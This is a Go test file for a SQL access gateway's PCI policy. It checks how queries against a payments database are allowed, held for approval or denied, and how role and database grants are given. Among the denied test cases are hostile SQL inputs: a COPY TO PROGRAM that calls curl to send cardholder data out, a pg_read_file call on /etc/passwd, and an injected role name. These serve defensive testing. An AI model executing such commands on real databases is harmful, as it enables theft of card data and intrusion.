package policy

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/pangate/pangate/gateway/classify"
	"github.com/pangate/pangate/schemas"
)

const pciPath = "../../deploy/policy/pci.yaml"

func loadPCI(t testing.TB) *Policy {
	t.Helper()
	p, err := Load(pciPath)
	if err != nil {
		t.Fatalf("default PCI policy does not load: %v", err)
	}
	return p
}

var etl = schemas.Identity{
	Issuer:  "https://token.actions.githubusercontent.com",
	Subject: "repo:acme/payments-etl:ref:refs/heads/main",
	Claims:  map[string]string{"repository": "acme/payments-etl", "ref": "refs/heads/main"},
}

func TestPCIPolicyDecisions(t *testing.T) {
	p := loadPCI(t)
	cases := []struct {
		sql        string
		cardholder bool
		human      bool
		action     Action
		rule       string
	}{
		{"SELECT pan FROM cards WHERE id = 1", true, false, Allow, "allow-read"},
		{"SELECT 1", false, false, Allow, "allow-read"},
		{"BEGIN", false, false, Allow, "allow-transaction"},
		{"SET statement_timeout = '5s'", false, false, Allow, "allow-utility"},
		{"INSERT INTO orders (id) VALUES (1)", false, false, Allow, "allow-write"},
		{"UPDATE orders SET total = 1 WHERE id = 1", false, false, Allow, "allow-write"},
		{"COPY orders TO STDOUT", false, false, Allow, "allow-copy"},
		{"COPY (SELECT pan FROM cards) TO STDOUT", true, false, Hold, "hold-copy-out-cardholder"},
		{"CREATE TABLE t (id int)", false, false, Hold, "hold-ddl"},
		{"DROP TABLE orders", false, false, Hold, "hold-ddl"},
		{"GRANT SELECT ON cards TO bob", true, false, Hold, "hold-role-change"},
		{"CREATE ROLE x", false, false, Hold, "hold-role-change"},
		{"DELETE FROM orders", false, false, Hold, "hold-unbounded-write"},
		{"TRUNCATE orders", false, false, Hold, "hold-unbounded-write"},
		{"WITH d AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM d", false, false, Hold, "hold-unbounded-write"},
		{"EXPLAIN ANALYZE DELETE FROM orders", false, false, Hold, "hold-unbounded-write"},
		{"DO $$ BEGIN NULL; END $$", false, false, Hold, "hold-opaque"},
		{"COPY (DELETE FROM orders WHERE id = 1 RETURNING id) TO STDOUT", false, false, Hold, "hold-opaque"},
		{"SELECT pan FROM cards", true, true, Hold, "hold-interactive-cardholder"},
		{"SELECT pg_read_file('/etc/passwd')", false, false, Deny, "deny-external-access"},
		{"COPY cards TO PROGRAM 'curl evil'", true, false, Deny, "deny-external-access"},
		{"SET ROLE postgres", false, false, Deny, "deny-set-role"},
		{"RESET ROLE", false, false, Deny, "deny-set-role"},
		{"ALTER SYSTEM SET log_statement = 'none'", false, false, Deny, "deny-admin-setting"},
		{"SET log_statement = 'none'", false, false, Deny, "deny-admin-setting"},
		{"selec 1", false, false, Deny, "deny-unparseable"},
	}
	for _, tc := range cases {
		st := classify.Classify(tc.sql)
		if len(st) != 1 {
			t.Fatalf("%q: %d statements", tc.sql, len(st))
		}
		id := etl
		id.Human = tc.human
		d := p.Evaluate(Input{Identity: id, Target: "payments", Statement: st[0], Cardholder: tc.cardholder})
		if d.Action != tc.action || d.Rule != tc.rule {
			t.Errorf("%q: %s by %q (%s), want %s by %q", tc.sql, d.Action, d.Rule, d.Reason, tc.action, tc.rule)
		}
		if d.Action == Hold && (d.ApproverGroup != "payments-approvers" || d.Timeout != 15*time.Minute) {
			t.Errorf("%q: hold without approvers/timeout: %+v", tc.sql, d)
		}
		if d.Action != Allow && d.Reason == "" {
			t.Errorf("%q: %s without a reason", tc.sql, d.Action)
		}
	}
}

func TestPCIPolicyMultiStatement(t *testing.T) {
	p := loadPCI(t)
	overall, each := p.EvaluateAll(Input{Identity: etl}, classify.Classify("SELECT 1; UPDATE orders SET total = 1 WHERE id = 1"))
	if overall.Action != Hold || overall.Rule != "hold-multi-statement-write" || len(each) != 2 {
		t.Fatalf("overall %+v, each %+v", overall, each)
	}
	if each[0].Action != Hold {
		t.Errorf("the read in a batch with a write should be held too: %+v", each[0])
	}
	overall, _ = p.EvaluateAll(Input{Identity: etl}, classify.Classify("SELECT 1; SELECT 2"))
	if overall.Action != Allow {
		t.Errorf("two reads: %+v", overall)
	}
	overall, _ = p.EvaluateAll(Input{Identity: etl}, classify.Classify("SELECT 1; SET ROLE postgres; CREATE TABLE t (a int)"))
	if overall.Action != Deny || overall.Rule != "deny-set-role" {
		t.Errorf("a deny anywhere denies the string: %+v", overall)
	}
	if d := Combine(nil); d.Action != Allow {
		t.Errorf("empty query: %+v", d)
	}
}

func TestDefaultDenies(t *testing.T) {
	p := loadPCI(t)
	d := p.Evaluate(Input{Statement: classify.Statement{Kind: "something-new"}})
	if d.Action != Deny || d.Rule != DefaultRule {
		t.Errorf("unknown kind: %+v", d)
	}
}

func TestScore(t *testing.T) {
	p := loadPCI(t)
	in := Input{Statement: classify.Statement{Kind: classify.KindWrite, Tags: []string{"multi_statement", "no_where"}, Tables: []string{"a", "b", "c"}}, Cardholder: true}
	want := 10 + 40 + 10 + 2*5 + 30
	if got := p.Score(in); got != want {
		t.Errorf("score = %d, want %d", got, want)
	}
	if d := p.Evaluate(in); d.Score != want {
		t.Errorf("decision score = %d, want %d", d.Score, want)
	}
	custom, err := Parse("w.yaml", []byte("version: 1\nweights:\n  no_where: 1\n  cardholder: 0\nrules: []\ndefault: {action: allow}\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := custom.Score(in); got != 10+1+10+10 {
		t.Errorf("custom score = %d", got)
	}
}

func TestScoreRule(t *testing.T) {
	p, err := Parse("s.yaml", []byte(`version: 1
rules:
  - name: risky
    when: score >= 50
    action: hold
    approvers: ops
    timeout: 2m
    reason_required: true
    reason: too risky
default: {action: allow}
`))
	if err != nil {
		t.Fatal(err)
	}
	d := p.Evaluate(Input{Statement: classify.Classify("DELETE FROM t")[0]})
	if d.Action != Hold || d.Rule != "risky" || d.ApproverGroup != "ops" || d.Timeout != 2*time.Minute || !d.ReasonRequired || d.Reason != "too risky" {
		t.Errorf("%+v", d)
	}
	d = p.Evaluate(Input{Statement: classify.Classify("DELETE FROM t WHERE id = 1")[0]})
	if d.Action != Allow || d.Rule != DefaultRule {
		t.Errorf("%+v", d)
	}
}

func TestEvaluationErrorDenies(t *testing.T) {
	p, err := Parse("e.yaml", []byte(`version: 1
rules:
  - name: needs-claim
    when: claims.team == "payments"
    action: allow
default: {action: allow}
`))
	if err != nil {
		t.Fatal(err)
	}
	d := p.Evaluate(Input{Statement: classify.Statement{Kind: classify.KindRead}})
	if d.Action != Deny || d.Rule != "needs-claim" || !strings.Contains(d.Reason, "could not be evaluated") {
		t.Errorf("missing claim should deny, got %+v", d)
	}
}

func TestGrants(t *testing.T) {
	p := loadPCI(t)
	roles, rule, err := p.Grants(etl, "payments", "")
	if err != nil || rule != "ci-etl-writer" || strings.Join(roles, ",") != "app_reader,app_writer" {
		t.Errorf("etl: %v %q %v", roles, rule, err)
	}
	roles, rule, err = p.Grants(etl, "payments", "app_writer")
	if err != nil || rule != "ci-etl-writer" || strings.Join(roles, ",") != "app_writer" {
		t.Errorf("etl asking app_writer: %v %q %v", roles, rule, err)
	}
	other := schemas.Identity{Issuer: etl.Issuer, Subject: "repo:acme/web:ref:refs/heads/main", Claims: map[string]string{"repository": "acme/web"}}
	roles, rule, err = p.Grants(other, "payments", "")
	if err != nil || rule != "ci-readers" || strings.Join(roles, ",") != "app_reader" {
		t.Errorf("other repo: %v %q %v", roles, rule, err)
	}
	_, _, err = p.Grants(other, "payments", "app_writer")
	if !errors.Is(err, ErrRoleNotGranted) || !strings.Contains(err.Error(), `"app_writer"`) || !strings.Contains(err.Error(), "app_reader") {
		t.Errorf("reader asking app_writer: %v", err)
	}
	stranger := schemas.Identity{Issuer: "https://evil.example", Subject: "mallory"}
	_, _, err = p.Grants(stranger, "payments", "")
	if !errors.Is(err, ErrNoGrant) || !strings.Contains(err.Error(), "mallory") {
		t.Errorf("stranger: %v", err)
	}
	grouped := schemas.Identity{Issuer: "https://idp.example", Subject: "svc", Groups: []string{"payments-readers"}}
	if roles, rule, err = p.Grants(grouped, "payments", ""); err != nil || rule != "workload-readers" || roles[0] != "app_reader" {
		t.Errorf("group member: %v %q %v", roles, rule, err)
	}
}

func TestHashAndRules(t *testing.T) {
	data := []byte("version: 1\ngrants:\n  - {name: g, when: 'true', roles: [r]}\nrules:\n  - {name: a, when: 'true', action: allow}\ndefault: {action: deny}\n")
	p, err := Parse("h.yaml", data)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	if p.Hash() != hex.EncodeToString(sum[:]) {
		t.Errorf("hash %q", p.Hash())
	}
	p2, _ := Parse("h.yaml", append(data, '\n'))
	if p.Hash() == p2.Hash() {
		t.Error("different bytes, same hash")
	}
	if p.Rules() != 2 {
		t.Errorf("rules = %d, want 2", p.Rules())
	}
}

// Invalid policies are refused with the line of the problem.
func TestInvalidPolicies(t *testing.T) {
	cases := []struct {
		name string
		yaml string
		line int
		msg  string
	}{
		{"bad yaml", "version: 1\nrules:\n  - name: a\n    when: x: y\n", 4, "not valid YAML"},
		{"bad yaml unterminated quote", "version: 1\nrules:\n  - name: a\n    when: \"x\n    action: allow\n", 4, "not valid YAML"},
		{"unknown action", "version: 1\nrules:\n  - name: a\n    when: 'true'\n    action: block\ndefault: {action: deny}\n", 5, `unknown action "block"`},
		{"cel syntax error", "version: 1\nrules:\n  - name: a\n    when: kind == \n    action: allow\ndefault: {action: deny}\n", 4, "CEL error"},
		{"cel syntax error in block", "version: 1\nrules:\n  - name: a\n    when: |\n      kind == \"read\" &&\n      tags.exists(t, t ==)\n    action: allow\ndefault: {action: deny}\n", 6, "CEL error"},
		{"cel type error", "version: 1\nrules:\n  - name: a\n    when: kind == 1\n    action: allow\ndefault: {action: deny}\n", 4, "no matching overload"},
		{"cel undeclared", "version: 1\nrules:\n  - name: a\n    when: kindd == \"read\"\n    action: allow\ndefault: {action: deny}\n", 4, "undeclared reference"},
		{"cel not bool", "version: 1\nrules:\n  - name: a\n    when: score + 1\n    action: allow\ndefault: {action: deny}\n", 4, "must give a bool"},
		{"duplicate rule names", "version: 1\nrules:\n  - name: a\n    when: 'true'\n    action: allow\n  - name: a\n    when: 'false'\n    action: deny\ndefault: {action: deny}\n", 6, `rule name "a" is already used at line 3`},
		{"missing default", "version: 1\nrules:\n  - name: a\n    when: 'true'\n    action: allow\n", 5, "missing default"},
		{"missing version", "rules: []\ndefault: {action: deny}\n", 1, "missing version"},
		{"unknown key", "version: 1\nrules: []\ndefualt: {action: deny}\ndefault: {action: deny}\n", 3, `unknown key "defualt"`},
		{"hold without approvers", "version: 1\nrules:\n  - name: h\n    when: 'true'\n    action: hold\ndefault: {action: deny}\n", 3, "hold needs approvers"},
		{"bad timeout", "version: 1\napprovals: {approvers: x, timeout: soon}\nrules: []\ndefault: {action: deny}\n", 2, `"soon" is not a duration`},
		{"bad role", "version: 1\ngrants:\n  - name: g\n    when: 'true'\n    roles: [\"a; DROP\"]\nrules: []\ndefault: {action: deny}\n", 5, "not a valid role name"},
		{"grant cel error", "version: 1\ngrants:\n  - name: g\n    when: kind == \"read\"\n    roles: [r]\nrules: []\ndefault: {action: deny}\n", 4, "undeclared reference to 'kind'"},
		{"default action unknown", "version: 1\nrules: []\ndefault:\n  action: maybe\n", 4, `unknown action "maybe"`},
		{"empty", "", 0, "empty policy"},
		{"not a mapping", "- a\n- b\n", 1, "must be a mapping"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("p.yaml", []byte(tc.yaml))
			if err == nil {
				t.Fatalf("accepted:\n%s", tc.yaml)
			}
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("error does not wrap ErrInvalid: %v", err)
			}
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("not an *Error: %v", err)
			}
			prefix := "p.yaml:"
			if tc.line > 0 {
				prefix = fmt.Sprintf("p.yaml:%d: ", tc.line)
			}
			found := false
			for _, line := range strings.Split(err.Error(), "\n") {
				if strings.HasPrefix(line, prefix) && strings.Contains(line, tc.msg) {
					found = true
				}
			}
			if !found {
				t.Errorf("want a problem %q containing %q, got:\n%v", prefix, tc.msg, err)
			}
		})
	}
}

func TestLoadMissingFile(t *testing.T) {
	if _, err := Load("testdata/does-not-exist.yaml"); err == nil {
		t.Fatal("no error for a missing file")
	}
}

func BenchmarkEvaluatePCI(b *testing.B) {
	p := loadPCI(b)
	st := classify.Classify("SELECT pan FROM cards WHERE id = 1")[0]
	in := Input{Identity: etl, Target: "payments", Statement: st, Cardholder: true}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p.Evaluate(in)
	}
}

func BenchmarkParsePCI(b *testing.B) {
	data, err := os.ReadFile(pciPath)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < b.N; i++ {
		if _, err := Parse("pci.yaml", data); err != nil {
			b.Fatal(err)
		}
	}
}

// TestGrantDatabases is issue 13.6: a grant can restrict the databases a session opens; a grant without
// databases allows any; a later grant that allows the database applies when an earlier one does not.
func TestGrantDatabases(t *testing.T) {
	p, err := Parse("dbs.yaml", []byte(`version: 1
grants:
  - name: payments-only
    when: subject == "etl"
    roles: [app_writer]
    databases: [payments]
  - name: reports-reader
    when: subject == "etl" || subject == "bi"
    roles: [app_reader]
    databases: [reports, payments]
  - name: anywhere
    when: subject == "dba"
    roles: [app_reader]
rules:
  - {name: all, when: 'true', action: allow}
default: {action: allow}
`))
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		sub, db, role string
		rule          string
		err           error
	}{
		{"etl", "payments", "", "payments-only", nil},
		{"etl", "", "", "payments-only", nil}, // no database given: not checked here
		{"etl", "reports", "", "reports-reader", nil},
		{"etl", "reports", "app_writer", "", ErrRoleNotGranted},
		{"etl", "postgres", "", "", ErrDatabaseNotGranted},
		{"bi", "postgres", "app_reader", "", ErrDatabaseNotGranted},
		{"dba", "postgres", "", "anywhere", nil},
		{"nobody", "payments", "", "", ErrNoGrant},
	}
	for _, c := range cases {
		_, rule, err := p.GrantsFor(schemas.Identity{Issuer: "https://i", Subject: c.sub}, "pg", c.db, c.role)
		if c.err == nil && (err != nil || rule != c.rule) || c.err != nil && !errors.Is(err, c.err) {
			t.Errorf("%s on %q as %q: rule %q err %v, want rule %q err %v", c.sub, c.db, c.role, rule, err, c.rule, c.err)
		}
		if errors.Is(err, ErrDatabaseNotGranted) && (!strings.Contains(err.Error(), `"`+c.db+`"`) || !strings.Contains(err.Error(), "payments")) {
			t.Errorf("message %q should name the database and the allowed ones", err)
		}
	}
	for _, bad := range []string{"databases: []", "databases: payments", `databases: [""]`} {
		_, err := Parse("bad.yaml", []byte("version: 1\ngrants:\n  - name: g\n    when: 'true'\n    roles: [r]\n    "+bad+"\nrules:\n  - {name: all, when: 'true', action: allow}\ndefault: {action: allow}\n"))
		if err == nil || !strings.Contains(err.Error(), "database") {
			t.Errorf("%s accepted: %v", bad, err)
		}
	}
}
